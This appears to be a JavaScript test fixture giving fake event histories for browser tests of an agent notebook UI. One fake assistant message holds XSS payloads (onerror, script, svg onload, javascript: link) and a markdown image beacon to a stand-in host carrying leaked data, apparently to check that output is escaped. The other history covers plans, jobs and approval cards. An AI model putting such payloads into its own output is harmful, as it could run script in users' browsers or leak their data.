/** Event histories the fake kernel side serves in browser tests. */

const SCRIPT = 'print("train")\n';
let seq = 0;
const ev = (kind, fields) => ({
  kind,
  session_id: 'ui-test',
  seq: ++seq,
  ts: '2025-01-01T00:00:00.000Z',
  ...fields
});

export const XSS_HISTORY = [
  ev('session_started', {
    model: 'demo',
    approve_mode: 'ask',
    budget_usd: 5,
    demo: true
  }),
  ev('user_prompt', { text: 'fine-tune distilbert', cell_id: 'anchor-cell' }),
  ev('assistant_message', {
    text:
      'Raw: <img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script> ' +
      '<svg onload="window.__pwned=3"></svg>\n\n[click me](javascript:window.__pwned=4) ' +
      '[fine](https://huggingface.co) ![beacon](https://beacon.invalid/panel.png?d=leak)',
    tool_calls: []
  }),
  ev('tool_call', {
    call_id: 'call_bash',
    tool: 'bash',
    arguments: { command: 'echo' }
  }),
  ev('tool_output', { call_id: 'call_bash', text: '<b>not bold</b>' }),
  ev('tool_result', {
    call_id: 'call_bash',
    tool: 'bash',
    ok: true,
    content: 'ok'
  }),
  ev('cell_insert', {
    call_id: 'call_cell',
    source: "print('inserted by the agent')",
    cell_type: 'code',
    anchor_cell_id: 'anchor-cell'
  }),
  ev('tool_call', {
    call_id: 'call_job',
    tool: 'hf_jobs',
    arguments: { operation: 'uv', script: SCRIPT }
  }),
  ev('approval_requested', {
    call_id: 'call_job',
    nonce: 'n-1',
    action_sha256: '9f2c4e1b' + '0'.repeat(56),
    cost_usd: 2,
    expires_at: new Date(Date.now() + 3600_000).toISOString(),
    tool: 'hf_jobs',
    action: {
      tool: 'hf_jobs',
      operation: 'uv',
      hardware: 'a10g-small',
      timeout: '2h',
      script: SCRIPT
    },
    budget_left_usd: 4.95
  }),
  ev('turn_ended', { reason: 'awaiting_approval' })
];

/** A long training script: the approval card must summarise it and keep Approve in view. */
const LONG_SCRIPT = Array.from({ length: 60 }, (_, i) =>
  i === 0 ? '# /// script\n# dependencies = ["trl", "datasets"]\n# ///' : `print("training step ${i}")`
).join('\n');

let cardSeq = 0;
const cardEv = (kind, fields) => ({
  kind,
  session_id: 'ui-cards',
  seq: ++cardSeq,
  ts: '2025-01-01T00:00:00.000Z',
  ...fields
});

/** The main card states in one session: markdown, plan, a finished job, a running job, a pending approval. */
export const CARD_HISTORY = [
  cardEv('session_started', { model: 'demo', approve_mode: 'ask', budget_usd: 10, demo: true }),
  cardEv('user_prompt', { text: 'fine-tune distilbert on imdb', cell_id: 'anchor-cell' }),
  cardEv('plan_updated', {
    todos: [
      { id: '1', content: 'Inspect the imdb dataset', status: 'completed' },
      { id: '2', content: 'Train on a10g-small', status: 'in_progress' },
      { id: '3', content: 'Push the model', status: 'pending' }
    ]
  }),
  cardEv('assistant_message', {
    text: 'The dataset has **25,000** reviews per split.\n\n- label: `0` / `1`\n- text: plain English',
    tool_calls: []
  }),
  cardEv('tool_call', {
    call_id: 'call_smoke',
    tool: 'hf_jobs',
    arguments: { operation: 'uv', script: 'print(1)' }
  }),
  cardEv('job_updated', {
    call_id: 'call_smoke',
    job_id: 'job-smoke',
    status: 'COMPLETED',
    runtime: 'hf',
    hardware: 'cpu-basic',
    cost_usd: 0.01
  }),
  cardEv('tool_output', { call_id: 'call_smoke', job_id: 'job-smoke', text: 'smoke test ok\n' }),
  cardEv('tool_call', {
    call_id: 'call_train',
    tool: 'hf_jobs',
    arguments: { operation: 'uv', script: 'train()' }
  }),
  cardEv('job_updated', {
    call_id: 'call_train',
    job_id: 'job-train',
    status: 'RUNNING',
    runtime: 'hf',
    hardware: 'a10g-small',
    cost_usd: 0.4
  }),
  cardEv('tool_output', {
    call_id: 'call_train',
    job_id: 'job-train',
    text:
      Array.from({ length: 8 }, (_, i) => `step ${i * 10} loss=${(1 / (i + 1)).toFixed(3)}`).join('\n') + '\n'
  }),
  cardEv('job_metrics', {
    call_id: 'call_train',
    job_id: 'job-train',
    points: Array.from({ length: 8 }, (_, i) => ({ step: i * 10, loss: 1 / (i + 1) }))
  }),
  cardEv('tool_call', {
    call_id: 'call_push',
    tool: 'hf_jobs',
    arguments: { operation: 'uv', script: LONG_SCRIPT, hardware_flavor: 'a10g-large', timeout: '2h' }
  }),
  cardEv('approval_requested', {
    call_id: 'call_push',
    nonce: 'n-cards',
    action_sha256: '5e1f' + '0'.repeat(60),
    cost_usd: 3,
    expires_at: new Date(Date.now() + 30 * 60_000).toISOString(),
    tool: 'hf_jobs',
    reason: 'runs a job on paid hardware',
    action: {
      tool: 'hf_jobs',
      operation: 'uv',
      hardware_flavor: 'a10g-large',
      timeout_s: 7200,
      script: LONG_SCRIPT,
      arguments_json: '{"dependencies": ["trl", "datasets"], "namespace": "me"}'
    },
    budget_left_usd: 6.59
  }),
  cardEv('turn_ended', { reason: 'awaiting_approval' })
];
